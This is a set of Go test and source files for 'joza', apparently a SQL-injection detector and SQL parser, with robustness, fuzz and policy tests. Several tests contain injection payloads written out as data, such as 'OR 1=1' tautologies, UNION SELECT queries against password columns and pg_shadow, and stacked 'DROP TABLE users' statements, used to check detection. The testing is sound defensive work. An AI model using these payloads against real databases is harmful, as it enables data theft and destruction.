func RenderVerdict(v Verdict) string {
	toks := sqltoken.Lex(v.Query)
	crit := sqltoken.CriticalTokens(toks)
	return core.RenderMarkings(v.Query, v.NTI.Markings, v.PTI.Markings, crit)
}
