package joza_test

import (
	"testing"

	"joza"
)

// The advanced-search pattern of Section II: the application passes a
// field name through user input. The pragmatic (default) policy allows
// it; the strict Ray–Ligatti-style policy does not.
const searchAppSource = `<?php
$field = $_GET['sort'];
$q = 'SELECT id, title FROM posts ORDER BY ' . $field . ' LIMIT 10';
`

func TestPragmaticPolicyAllowsFieldNames(t *testing.T) {
	g, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(searchAppSource)))
	if err != nil {
		t.Fatal(err)
	}
	q := "SELECT id, title FROM posts ORDER BY views LIMIT 10"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "sort", Value: "views"}})
	if v.Attack {
		t.Errorf("pragmatic policy must allow input-supplied field names: %v", v.Reasons())
	}
}

func TestStrictPolicyFlagsFieldNames(t *testing.T) {
	g, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(searchAppSource)),
		joza.WithStrictPolicy(),
	)
	if err != nil {
		t.Fatal(err)
	}
	q := "SELECT id, title FROM posts ORDER BY views LIMIT 10"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "sort", Value: "views"}})
	if !v.Attack {
		t.Fatal("strict policy must flag input-supplied field names")
	}
	// Both analyzers flag: NTI because the identifier derives from input,
	// PTI because "views" is not a program fragment.
	if !v.NTI.Attack {
		t.Error("NTI should flag under strict policy")
	}
	if !v.PTI.Attack {
		t.Error("PTI should flag under strict policy")
	}
}

func TestStrictPolicyStillAllowsProgramIdentifiers(t *testing.T) {
	g, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(searchAppSource)),
		joza.WithStrictPolicy(),
	)
	if err != nil {
		t.Fatal(err)
	}
	// A query built entirely from program text: identifiers are covered
	// by the program's own fragments, and no input matches.
	q := "SELECT id, title FROM posts ORDER BY "
	// Complete it the way the program would with a *constant* — the
	// constant must come from program text too; reuse the fragment tail.
	q += "id LIMIT 10"
	// "id" appears inside the fragment "SELECT id, title FROM posts
	// ORDER BY " — but coverage must be a single occurrence containing
	// the token; the trailing "id" is a separate occurrence of the
	// substring "id" inside that fragment's text, which occurs at
	// "SELECT id". PTI coverage works on the query bytes: the fragment
	// occurs at position 0 and covers only its own span, so the trailing
	// "id" is uncovered — but identifiers uncovered by fragments are only
	// attacks under strict policy, and here PTI is strict. Expect attack.
	v := g.Check(q, nil)
	if !v.PTI.Attack {
		t.Error("strict PTI must flag identifiers outside fragments")
	}

	// A fully covered strict query: every byte from one fragment.
	g2, err := joza.New(
		joza.WithFragments([]string{"SELECT id, title FROM posts ORDER BY views LIMIT 10"}),
		joza.WithStrictPolicy(),
	)
	if err != nil {
		t.Fatal(err)
	}
	v = g2.Check("SELECT id, title FROM posts ORDER BY views LIMIT 10", nil)
	if v.Attack {
		t.Errorf("fully program-originated query flagged under strict policy: %v", v.Reasons())
	}
}

func TestStrictPolicyCatchesColumnExfiltration(t *testing.T) {
	// The attack the strict policy exists for: swapping the sort column
	// for a sensitive one. Pragmatically "password" is just a field name;
	// strictly it is an attack.
	src := `<?php
$q = 'SELECT id, title FROM posts ORDER BY ' . $_GET['sort'];
$q2 = 'SELECT username, password FROM users WHERE id=';
`
	pragmatic, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(src)))
	if err != nil {
		t.Fatal(err)
	}
	strict, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(src)),
		joza.WithStrictPolicy(),
	)
	if err != nil {
		t.Fatal(err)
	}
	q := "SELECT id, title FROM posts ORDER BY secretcol"
	inputs := []joza.Input{{Source: "get", Name: "sort", Value: "secretcol"}}
	if pragmatic.Check(q, inputs).Attack {
		t.Error("pragmatic policy should permit the field name")
	}
	if !strict.Check(q, inputs).Attack {
		t.Error("strict policy should flag the field name")
	}
}
