module joza

go 1.22
