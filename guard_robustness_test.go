package joza_test

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"
	"testing/quick"

	"joza"
)

func robustGuard(t *testing.T) *joza.Guard {
	t.Helper()
	g, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";
$q2 = "SELECT name, email FROM people WHERE name='";
$q2b = "'";`)))
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// TestGuardNeverPanics drives the full hybrid over arbitrary query and
// input strings; a defense must survive adversarial garbage.
func TestGuardNeverPanics(t *testing.T) {
	g := robustGuard(t)
	f := func(query, a, b string) bool {
		_ = g.Check(query, []joza.Input{
			{Source: "get", Name: "a", Value: a},
			{Source: "post", Name: "b", Value: b},
		})
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Error(err)
	}
}

// TestGuardConcurrent exercises one Guard from many goroutines (run under
// -race in CI): the analyzers, caches and MRU must be safe to share.
func TestGuardConcurrent(t *testing.T) {
	g := robustGuard(t)
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(seed))
			for i := 0; i < 300; i++ {
				id := rng.Intn(100)
				q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", id)
				v := g.Check(q, []joza.Input{{Source: "get", Name: "id", Value: fmt.Sprint(id)}})
				if v.Attack {
					errs <- fmt.Errorf("benign flagged: %s", q)
					return
				}
				payload := fmt.Sprintf("%d OR 1=1", id)
				atk := "SELECT * FROM records WHERE ID=" + payload + " LIMIT 5"
				v = g.Check(atk, []joza.Input{{Source: "get", Name: "id", Value: payload}})
				if !v.Attack {
					errs <- fmt.Errorf("attack missed: %s", atk)
					return
				}
			}
		}(int64(w))
	}
	wg.Wait()
	close(errs)
	if err := <-errs; err != nil {
		t.Fatal(err)
	}
}

// TestGuardAttackSurvivesCacheWarmth interleaves benign and attack
// variants of the same query shape: warm caches must never certify an
// attack.
func TestGuardAttackSurvivesCacheWarmth(t *testing.T) {
	g := robustGuard(t)
	for i := 0; i < 200; i++ {
		q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", i)
		if g.Check(q, nil).Attack {
			t.Fatalf("benign flagged: %s", q)
		}
		atk := fmt.Sprintf("SELECT * FROM records WHERE ID=%d OR 1=1 LIMIT 5", i)
		if !g.Check(atk, nil).Attack {
			t.Fatalf("attack certified by warm cache: %s", atk)
		}
	}
}

// TestGuardQuotedContext covers the quoted injection point end to end.
func TestGuardQuotedContext(t *testing.T) {
	g := robustGuard(t)
	benign := "SELECT name, email FROM people WHERE name='alice'"
	if v := g.Check(benign, []joza.Input{{Source: "get", Name: "n", Value: "alice"}}); v.Attack {
		t.Errorf("benign quoted query flagged: %v", v.Reasons())
	}
	payload := "x' UNION SELECT name, email FROM people -- "
	atk := "SELECT name, email FROM people WHERE name='" + payload + "'"
	if v := g.Check(atk, []joza.Input{{Source: "get", Name: "n", Value: payload}}); !v.Attack {
		t.Error("quoted-context injection missed")
	}
}
