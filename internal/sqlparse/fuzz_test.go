package sqlparse

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

// TestParseNeverPanics feeds arbitrary strings to the parser: it must
// return a statement or a *SyntaxError, never panic.
func TestParseNeverPanics(t *testing.T) {
	f := func(s string) bool {
		_, _ = Parse(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Error(err)
	}
}

// TestParseNeverPanicsOnTokenSoup stresses the parser with SQL-shaped
// random token sequences.
func TestParseNeverPanicsOnTokenSoup(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	vocab := []string{
		"SELECT", "FROM", "WHERE", "AND", "OR", "NOT", "UNION", "ALL",
		"INSERT", "INTO", "VALUES", "UPDATE", "SET", "DELETE", "CREATE",
		"TABLE", "DROP", "ORDER", "BY", "GROUP", "HAVING", "LIMIT",
		"BETWEEN", "IN", "IS", "NULL", "LIKE", "AS", "DISTINCT",
		"(", ")", ",", ";", ".", "*", "=", "<", ">", "<=", ">=", "<>",
		"+", "-", "/", "%", "t", "a", "b", "'s'", "\"d\"", "`q`",
		"1", "2.5", "0x1F", "?", ":x", "@v", "--", "#c", "/*c*/",
	}
	for i := 0; i < 3000; i++ {
		n := rng.Intn(18)
		parts := make([]string, n)
		for j := range parts {
			parts[j] = vocab[rng.Intn(len(vocab))]
		}
		_, _ = Parse(strings.Join(parts, " "))
	}
}

// TestStructureKeyProperties checks StructureKey invariants over random
// input: deterministic, and stable under number-value substitution.
func TestStructureKeyProperties(t *testing.T) {
	deterministic := func(s string) bool {
		return StructureKey(s) == StructureKey(s)
	}
	if err := quick.Check(deterministic, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error("determinism:", err)
	}
	rng := rand.New(rand.NewSource(17))
	for i := 0; i < 300; i++ {
		a := rng.Intn(1 << 16)
		b := rng.Intn(1 << 16)
		const tmpl = "SELECT x FROM t WHERE id=@@ AND y<@@"
		qa := strings.ReplaceAll(tmpl, "@@", itoa(a))
		qb := strings.ReplaceAll(tmpl, "@@", itoa(b))
		if StructureKey(qa) != StructureKey(qb) {
			t.Fatalf("keys differ for %q vs %q", qa, qb)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b [8]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}
