package sqlparse

import (
	"errors"
	"strings"
	"testing"
)

func mustParse(t *testing.T, q string) Statement {
	t.Helper()
	stmt, err := Parse(q)
	if err != nil {
		t.Fatalf("Parse(%q): %v", q, err)
	}
	return stmt
}

func mustSelect(t *testing.T, q string) *SelectStmt {
	t.Helper()
	stmt := mustParse(t, q)
	sel, ok := stmt.(*SelectStmt)
	if !ok {
		t.Fatalf("Parse(%q) = %T, want *SelectStmt", q, stmt)
	}
	return sel
}

func TestParseSimpleSelect(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM records WHERE ID=1 LIMIT 5")
	if !sel.Columns[0].Star {
		t.Error("want star projection")
	}
	if sel.From != "records" {
		t.Errorf("From = %q", sel.From)
	}
	be, ok := sel.Where.(*BinaryExpr)
	if !ok || be.Op != "=" {
		t.Fatalf("Where = %#v", sel.Where)
	}
	if sel.Limit == nil || sel.Limit.Count != 5 || sel.Limit.Offset != 0 {
		t.Errorf("Limit = %+v", sel.Limit)
	}
}

func TestParseSelectColumnsAliases(t *testing.T) {
	sel := mustSelect(t, "SELECT id, name AS n, COUNT(*) cnt FROM t")
	if len(sel.Columns) != 3 {
		t.Fatalf("columns = %d", len(sel.Columns))
	}
	if sel.Columns[1].Alias != "n" || sel.Columns[2].Alias != "cnt" {
		t.Errorf("aliases = %q, %q", sel.Columns[1].Alias, sel.Columns[2].Alias)
	}
	fc, ok := sel.Columns[2].Expr.(*FuncCall)
	if !ok || fc.Name != "COUNT" || !fc.Star {
		t.Errorf("COUNT(*) = %#v", sel.Columns[2].Expr)
	}
}

func TestParsePrecedence(t *testing.T) {
	// a = 1 OR b = 2 AND c = 3  parses as  a=1 OR (b=2 AND c=3)
	sel := mustSelect(t, "SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3")
	or, ok := sel.Where.(*BinaryExpr)
	if !ok || or.Op != "OR" {
		t.Fatalf("top = %#v", sel.Where)
	}
	and, ok := or.R.(*BinaryExpr)
	if !ok || and.Op != "AND" {
		t.Fatalf("right of OR = %#v", or.R)
	}
}

func TestParseArithmeticPrecedence(t *testing.T) {
	sel := mustSelect(t, "SELECT 1 + 2 * 3")
	add, ok := sel.Columns[0].Expr.(*BinaryExpr)
	if !ok || add.Op != "+" {
		t.Fatalf("top = %#v", sel.Columns[0].Expr)
	}
	mul, ok := add.R.(*BinaryExpr)
	if !ok || mul.Op != "*" {
		t.Fatalf("right = %#v", add.R)
	}
}

func TestParseUnion(t *testing.T) {
	sel := mustSelect(t, "SELECT a FROM t WHERE id=-1 UNION ALL SELECT password FROM users")
	if sel.Union == nil || !sel.Union.All {
		t.Fatal("want UNION ALL")
	}
	if sel.Union.Right.From != "users" {
		t.Errorf("union right from = %q", sel.Union.Right.From)
	}
	// Negative literal under unary minus.
	be := sel.Where.(*BinaryExpr)
	if _, ok := be.R.(*UnaryExpr); !ok {
		t.Errorf("want unary minus, got %#v", be.R)
	}
}

func TestParsePredicates(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM t WHERE a LIKE '%x%' AND b IN (1,2,3) AND c BETWEEN 1 AND 9 AND d IS NOT NULL AND e NOT LIKE 'y' AND f NOT IN (4)")
	var found struct{ like, in, between, isnull, notlike, notin bool }
	var walk func(e Expr)
	walk = func(e Expr) {
		switch v := e.(type) {
		case *BinaryExpr:
			walk(v.L)
			walk(v.R)
		case *LikeExpr:
			if v.Not {
				found.notlike = true
			} else {
				found.like = true
			}
		case *InExpr:
			if v.Not {
				found.notin = true
			} else {
				found.in = true
			}
		case *BetweenExpr:
			found.between = true
		case *IsNullExpr:
			if v.Not {
				found.isnull = true
			}
		}
	}
	walk(sel.Where)
	if !found.like || !found.in || !found.between || !found.isnull || !found.notlike || !found.notin {
		t.Errorf("predicates found: %+v", found)
	}
}

func TestParseInsert(t *testing.T) {
	stmt := mustParse(t, "INSERT INTO users (id, name) VALUES (1, 'alice'), (2, 'bob')")
	ins := stmt.(*InsertStmt)
	if ins.Table != "users" || len(ins.Columns) != 2 || len(ins.Rows) != 2 {
		t.Errorf("ins = %+v", ins)
	}
	lit := ins.Rows[0][1].(*Literal)
	if lit.Kind != LitString || lit.Str != "alice" {
		t.Errorf("literal = %+v", lit)
	}
}

func TestParseInsertWithoutColumns(t *testing.T) {
	ins := mustParse(t, "INSERT INTO t VALUES (1,2)").(*InsertStmt)
	if len(ins.Columns) != 0 || len(ins.Rows[0]) != 2 {
		t.Errorf("ins = %+v", ins)
	}
}

func TestParseUpdateDelete(t *testing.T) {
	upd := mustParse(t, "UPDATE t SET a = 1, b = 'x' WHERE id = 3").(*UpdateStmt)
	if upd.Table != "t" || len(upd.Set) != 2 || upd.Where == nil {
		t.Errorf("upd = %+v", upd)
	}
	del := mustParse(t, "DELETE FROM t WHERE id = 3").(*DeleteStmt)
	if del.Table != "t" || del.Where == nil {
		t.Errorf("del = %+v", del)
	}
	del2 := mustParse(t, "DELETE FROM t").(*DeleteStmt)
	if del2.Where != nil {
		t.Error("unexpected WHERE")
	}
}

func TestParseCreateDrop(t *testing.T) {
	ct := mustParse(t, "CREATE TABLE IF NOT EXISTS posts (id INT PRIMARY KEY, title VARCHAR(200) NOT NULL, body TEXT)").(*CreateTableStmt)
	if !ct.IfNotExists || ct.Table != "posts" || len(ct.Columns) != 3 {
		t.Fatalf("ct = %+v", ct)
	}
	if ct.Columns[0].Type != "INT" || ct.Columns[1].Type != "VARCHAR" {
		t.Errorf("types = %v", ct.Columns)
	}
	dt := mustParse(t, "DROP TABLE IF EXISTS posts").(*DropTableStmt)
	if !dt.IfExists || dt.Table != "posts" {
		t.Errorf("dt = %+v", dt)
	}
}

func TestParseOrderGroupHaving(t *testing.T) {
	sel := mustSelect(t, "SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 1 ORDER BY a DESC, b LIMIT 2, 10")
	if len(sel.GroupBy) != 1 || sel.Having == nil {
		t.Error("group/having missing")
	}
	if len(sel.OrderBy) != 2 || !sel.OrderBy[0].Desc || sel.OrderBy[1].Desc {
		t.Errorf("order = %+v", sel.OrderBy)
	}
	if sel.Limit.Offset != 2 || sel.Limit.Count != 10 {
		t.Errorf("limit = %+v", sel.Limit)
	}
}

func TestParseLimitOffsetKeyword(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM t LIMIT 10 OFFSET 5")
	if sel.Limit.Offset != 5 || sel.Limit.Count != 10 {
		t.Errorf("limit = %+v", sel.Limit)
	}
}

func TestParseFunctions(t *testing.T) {
	sel := mustSelect(t, "SELECT CONCAT(a, 'x', CHAR(65)), version(), SLEEP(5) FROM t")
	fc := sel.Columns[0].Expr.(*FuncCall)
	if fc.Name != "CONCAT" || len(fc.Args) != 3 {
		t.Errorf("concat = %+v", fc)
	}
	if sel.Columns[1].Expr.(*FuncCall).Name != "VERSION" {
		t.Error("version()")
	}
}

func TestParseQualifiedColumn(t *testing.T) {
	sel := mustSelect(t, "SELECT t.a FROM t WHERE t.b = 1")
	ref := sel.Columns[0].Expr.(*ColumnRef)
	if ref.Table != "t" || ref.Name != "a" {
		t.Errorf("ref = %+v", ref)
	}
}

func TestParseCommentsIgnored(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM t /* inline */ WHERE a = 1 -- tail")
	if sel.Where == nil {
		t.Error("where lost")
	}
	// Comment used to terminate an injected query.
	sel = mustSelect(t, "SELECT * FROM t WHERE a = 1 OR 1=1 #")
	if sel.Where == nil {
		t.Error("where lost with # comment")
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"",
		"SELEC * FROM t",
		"SELECT FROM",
		"SELECT * FROM t WHERE",
		"INSERT INTO",
		"INSERT INTO t VALUES",
		"UPDATE t SET",
		"DELETE t",
		"CREATE TABLE",
		"SELECT * FROM t WHERE (a = 1",
		"SELECT * FROM t LIMIT 'x'",
		"SELECT * FROM t extra garbage ,,,",
		"SELECT (SELECT 1)",
	}
	for _, q := range bad {
		if _, err := Parse(q); err == nil {
			t.Errorf("Parse(%q) succeeded, want error", q)
		} else {
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Errorf("Parse(%q) error %T, want *SyntaxError", q, err)
			}
		}
	}
}

func TestSyntaxErrorMessage(t *testing.T) {
	_, err := Parse("SELECT * FROM t WHERE (a = 1")
	if err == nil || !strings.Contains(err.Error(), "byte") {
		t.Errorf("err = %v", err)
	}
}

func TestParseTrailingSemicolon(t *testing.T) {
	mustParse(t, "SELECT 1;")
	mustParse(t, "SELECT 1;;")
}

func TestParseStringEscapes(t *testing.T) {
	sel := mustSelect(t, `SELECT 'it''s', 'a\'b', "d\"q"`)
	want := []string{"it's", "a'b", `d"q`}
	for i, w := range want {
		lit := sel.Columns[i].Expr.(*Literal)
		if lit.Str != w {
			t.Errorf("col %d = %q, want %q", i, lit.Str, w)
		}
	}
}

func TestStructureKeyInsensitiveToData(t *testing.T) {
	a := StructureKey("SELECT * FROM t WHERE id = 5 AND name = 'x'")
	b := StructureKey("SELECT * FROM t WHERE id = 99999 AND name = 'completely different'")
	if a != b {
		t.Errorf("keys differ:\n%q\n%q", a, b)
	}
}

func TestStructureKeySensitiveToStructure(t *testing.T) {
	pairs := [][2]string{
		{"SELECT * FROM t WHERE id = 5", "SELECT * FROM t WHERE id = 5 OR 1=1"},
		{"SELECT * FROM t WHERE id = 5", "SELECT * FROM u WHERE id = 5"},
		{"SELECT a FROM t", "SELECT a, b FROM t"},
		{"SELECT a FROM t", "SELECT a FROM t -- comment"},
	}
	for _, pr := range pairs {
		if StructureKey(pr[0]) == StructureKey(pr[1]) {
			t.Errorf("keys equal for %q and %q", pr[0], pr[1])
		}
	}
}

func TestStructureKeyPreservesNonDataBytes(t *testing.T) {
	// PTI coverage is byte-exact, so the key must distinguish keyword case
	// and inter-token whitespace — otherwise a safe lowercase variant
	// could certify an unsafe uppercase one from the structure cache.
	if StructureKey("select 1") == StructureKey("SELECT 2") {
		t.Error("keyword case must affect the key")
	}
	if StructureKey("SELECT  1") == StructureKey("SELECT 2") {
		t.Error("whitespace must affect the key")
	}
	if StructureKey("SELECT 1") != StructureKey("SELECT 2") {
		t.Error("number values must not affect the key")
	}
	if StructureKey("SELECT 'a'") != StructureKey("SELECT 'zzz'") {
		t.Error("string values must not affect the key")
	}
}

func TestParseBacktickIdents(t *testing.T) {
	sel := mustSelect(t, "SELECT `weird col` FROM `my table` WHERE `weird col` = 1")
	if sel.From != "my table" {
		t.Errorf("From = %q", sel.From)
	}
	ref := sel.Columns[0].Expr.(*ColumnRef)
	if ref.Name != "weird col" {
		t.Errorf("col = %q", ref.Name)
	}
}

func TestParsePlaceholders(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM t WHERE a = ? AND b = :name")
	if sel.Where == nil {
		t.Fatal("where nil")
	}
}

func TestParseNotPrecedence(t *testing.T) {
	sel := mustSelect(t, "SELECT * FROM t WHERE NOT a = 1 AND b = 2")
	and, ok := sel.Where.(*BinaryExpr)
	if !ok || and.Op != "AND" {
		t.Fatalf("top = %#v", sel.Where)
	}
	if _, ok := and.L.(*UnaryExpr); !ok {
		t.Errorf("left = %#v, want NOT", and.L)
	}
}

func TestParseJoins(t *testing.T) {
	sel := mustSelect(t, "SELECT o.id, c.name FROM orders o JOIN customers AS c ON o.user_id = c.id LEFT OUTER JOIN notes n ON n.order_id = o.id WHERE o.id > 1")
	if sel.From != "orders" || sel.FromAlias != "o" {
		t.Errorf("from = %q alias %q", sel.From, sel.FromAlias)
	}
	if len(sel.Joins) != 2 {
		t.Fatalf("joins = %+v", sel.Joins)
	}
	if sel.Joins[0].Table != "customers" || sel.Joins[0].Alias != "c" || sel.Joins[0].Left || sel.Joins[0].On == nil {
		t.Errorf("join 0 = %+v", sel.Joins[0])
	}
	if sel.Joins[1].Table != "notes" || !sel.Joins[1].Left {
		t.Errorf("join 1 = %+v", sel.Joins[1])
	}
	cross := mustSelect(t, "SELECT * FROM a CROSS JOIN b")
	if len(cross.Joins) != 1 || cross.Joins[0].On != nil || cross.Joins[0].Left {
		t.Errorf("cross join = %+v", cross.Joins)
	}
	if _, err := Parse("SELECT * FROM a JOIN b ON"); err == nil {
		t.Error("dangling ON must error")
	}
	if _, err := Parse("SELECT * FROM a INNER JOIN"); err == nil {
		t.Error("dangling INNER JOIN must error")
	}
}

func TestParseQualifiedStar(t *testing.T) {
	// Qualified column refs through the expression grammar.
	sel := mustSelect(t, "SELECT t.a + u.b FROM t JOIN u ON t.id = u.id")
	be, ok := sel.Columns[0].Expr.(*BinaryExpr)
	if !ok || be.Op != "+" {
		t.Fatalf("expr = %#v", sel.Columns[0].Expr)
	}
	l := be.L.(*ColumnRef)
	if l.Table != "t" || l.Name != "a" {
		t.Errorf("left ref = %+v", l)
	}
}
