package sqlparse

import (
	"strings"
	"testing"

	"joza/internal/sqltoken"
)

func TestParseDialectPostgres(t *testing.T) {
	q := `SELECT "name", age FROM "users" WHERE id = $1 AND bio = E'it\'s'`
	stmt, err := ParseDialect(sqltoken.Postgres, q)
	if err != nil {
		t.Fatalf("ParseDialect(Postgres) error: %v", err)
	}
	sel, ok := stmt.(*SelectStmt)
	if !ok {
		t.Fatalf("got %T, want *SelectStmt", stmt)
	}
	if sel.From != "users" {
		t.Errorf(`From = %q, want "users" (quoted identifier must be unwrapped)`, sel.From)
	}
	// Under MySQL rules the same bytes put `"name"` in string position and
	// the parse must fail — quoted identifiers are a dialect property.
	if _, err := Parse(q); err == nil {
		t.Errorf("MySQL Parse accepted Postgres quoted-identifier query")
	}
}

func TestParseDialectStringDecoding(t *testing.T) {
	cases := []struct {
		d    sqltoken.Dialect
		q    string
		want string
	}{
		// MySQL: backslash escapes live inside '…'.
		{sqltoken.MySQL, `SELECT * FROM t WHERE a = 'x\'y'`, "x'y"},
		// Postgres standard_conforming_strings: backslash is a plain byte.
		{sqltoken.Postgres, `SELECT * FROM t WHERE a = 'x\y'`, `x\y`},
		// Postgres E'…' re-enables backslash escapes.
		{sqltoken.Postgres, `SELECT * FROM t WHERE a = E'x\ny'`, "x\ny"},
		// Dollar-quoted bodies are verbatim, including backslashes/quotes.
		{sqltoken.Postgres, `SELECT * FROM t WHERE a = $q$x\'y$q$`, `x\'y`},
		// SQLite: doubled quote is the only escape.
		{sqltoken.SQLite, `SELECT * FROM t WHERE a = 'x''y'`, "x'y"},
	}
	for _, c := range cases {
		stmt, err := ParseDialect(c.d, c.q)
		if err != nil {
			t.Errorf("%s: %q: %v", c.d, c.q, err)
			continue
		}
		sel := stmt.(*SelectStmt)
		bin, ok := sel.Where.(*BinaryExpr)
		if !ok {
			t.Errorf("%s: %q: WHERE is %T, want *BinaryExpr", c.d, c.q, sel.Where)
			continue
		}
		lit, ok := bin.R.(*Literal)
		if !ok || lit.Kind != LitString {
			t.Errorf("%s: %q: rhs is %#v, want string literal", c.d, c.q, bin.R)
			continue
		}
		if lit.Str != c.want {
			t.Errorf("%s: %q: decoded %q, want %q", c.d, c.q, lit.Str, c.want)
		}
	}
}

func TestParseRecoverClean(t *testing.T) {
	for _, d := range sqltoken.Dialects() {
		rec := ParseRecover(d, "SELECT id FROM users WHERE id = 1;")
		if !rec.Clean() {
			t.Fatalf("%s: diagnostics on clean input: %v", d, rec.Errs)
		}
		if len(rec.Stmts) != 1 || rec.Stmt() == nil {
			t.Fatalf("%s: got %d statements, want 1", d, len(rec.Stmts))
		}
		if rec.Skipped != 0 {
			t.Fatalf("%s: Skipped = %d on clean input", d, rec.Skipped)
		}
	}
}

func TestParseRecoverMultiStatement(t *testing.T) {
	rec := ParseRecover(sqltoken.MySQL, "SELECT 1; DROP TABLE audit; SELECT 2")
	if !rec.Clean() {
		t.Fatalf("diagnostics: %v", rec.Errs)
	}
	if len(rec.Stmts) != 3 {
		t.Fatalf("got %d statements, want 3 (stacked queries must all surface)", len(rec.Stmts))
	}
	if _, ok := rec.Stmts[1].(*DropTableStmt); !ok {
		t.Fatalf("middle statement is %T, want *DropTableStmt", rec.Stmts[1])
	}
}

// TestParseRecoverHostile is the contract the tentpole names: hostile
// malformed SQL degrades to a diagnosed partial parse, not an error.
func TestParseRecoverHostile(t *testing.T) {
	// Broken head, live injected tail: the recovery must diagnose the head
	// AND still surface the DROP so downstream layers can see it.
	rec := ParseRecover(sqltoken.MySQL, "SELECT FROM WHERE; DROP TABLE users")
	if rec.Clean() {
		t.Fatalf("no diagnostics for broken statement head")
	}
	var sawDrop bool
	for _, s := range rec.Stmts {
		if _, ok := s.(*DropTableStmt); ok {
			sawDrop = true
		}
	}
	if !sawDrop {
		t.Fatalf("injected DROP not recovered; stmts=%d errs=%v", len(rec.Stmts), rec.Errs)
	}
	if rec.Skipped == 0 {
		t.Errorf("Skipped = 0, want > 0 for the discarded broken head")
	}

	// Mid-statement garbage with no semicolon: resync at the next
	// statement-head keyword.
	rec = ParseRecover(sqltoken.MySQL, ")) OR (( SELECT secret FROM vault")
	if rec.Clean() || len(rec.Stmts) != 1 {
		t.Fatalf("want 1 diagnosed recovery + 1 stmt, got errs=%v stmts=%d", rec.Errs, len(rec.Stmts))
	}
	if _, ok := rec.Stmt().(*SelectStmt); !ok {
		t.Fatalf("recovered statement is %T, want *SelectStmt", rec.Stmt())
	}

	// Pure garbage: everything is skipped, nothing parses, and the call
	// still returns (never an error, never a panic, always terminates).
	rec = ParseRecover(sqltoken.MySQL, ")))((( @@x ::: '")
	if rec.Clean() || len(rec.Stmts) != 0 {
		t.Fatalf("garbage input: errs=%v stmts=%d", rec.Errs, len(rec.Stmts))
	}
	if rec.Skipped != rec.Tokens {
		t.Errorf("Skipped = %d, want all %d tokens", rec.Skipped, rec.Tokens)
	}
}

func TestParseRecoverDiagnosticPositions(t *testing.T) {
	q := "SELECT 1; BOGUS; SELECT 2"
	rec := ParseRecover(sqltoken.MySQL, q)
	if len(rec.Errs) != 1 {
		t.Fatalf("errs = %v, want exactly 1", rec.Errs)
	}
	if want := strings.Index(q, "BOGUS"); rec.Errs[0].Pos != want {
		t.Errorf("diagnostic at byte %d, want %d", rec.Errs[0].Pos, want)
	}
	if len(rec.Stmts) != 2 {
		t.Errorf("got %d statements, want the 2 clean SELECTs", len(rec.Stmts))
	}
}

func TestStructureKeyDialect(t *testing.T) {
	// MySQL delegation: the one-arg form is exactly the MySQL form.
	q := "SELECT * FROM t WHERE a = 'x' AND b = 42"
	if StructureKey(q) != StructureKeyDialect(sqltoken.MySQL, q) {
		t.Fatalf("StructureKey != StructureKeyDialect(MySQL)")
	}

	// The same bytes must yield different skeletons when the dialects
	// disagree on the string/code boundary: a dollar-quoted body is data
	// in Postgres and live tokens in MySQL.
	dq := "SELECT $q$ UNION SELECT pass FROM pg_shadow $q$"
	my := StructureKeyDialect(sqltoken.MySQL, dq)
	pg := StructureKeyDialect(sqltoken.Postgres, dq)
	if my == pg {
		t.Fatalf("MySQL and Postgres skeletons agree on dollar-quoted input: %q", my)
	}
	if !strings.Contains(pg, "$\x00S$") {
		t.Errorf("Postgres skeleton did not blank the dollar-quoted body: %q", pg)
	}
	if !strings.Contains(my, "UNION") {
		t.Errorf("MySQL skeleton should keep UNION as live bytes: %q", my)
	}

	// Number and placeholder handling under Postgres.
	pq := "SELECT a FROM t WHERE a = $1 AND b = 7"
	k := StructureKeyDialect(sqltoken.Postgres, pq)
	if !strings.Contains(k, "$1") || !strings.Contains(k, "\x00N") {
		t.Errorf("Postgres skeleton %q: want verbatim $1 and blanked number", k)
	}
}

func FuzzParseRecover(f *testing.F) {
	f.Add("SELECT FROM WHERE; DROP TABLE users")
	f.Add(")) OR (( SELECT secret FROM vault")
	f.Add("SELECT 1; SELECT 2; SELECT 3")
	f.Add("insert into t (a,b) values (1,'x'); garbage")
	f.Add(`' UNION SELECT usename FROM pg_user -- `)
	f.Add("$q$ SELECT $q$ ; \x00\xff")
	f.Fuzz(func(t *testing.T, q string) {
		for _, d := range sqltoken.Dialects() {
			rec := ParseRecover(d, q)
			if rec == nil {
				t.Fatalf("%s: nil recovery", d)
			}
			if rec.Skipped > rec.Tokens {
				t.Fatalf("%s: Skipped %d > Tokens %d", d, rec.Skipped, rec.Tokens)
			}
			for _, e := range rec.Errs {
				if e == nil || e.Pos < 0 || e.Pos > len(q) {
					t.Fatalf("%s: bad diagnostic %#v", d, e)
				}
			}
		}
	})
}
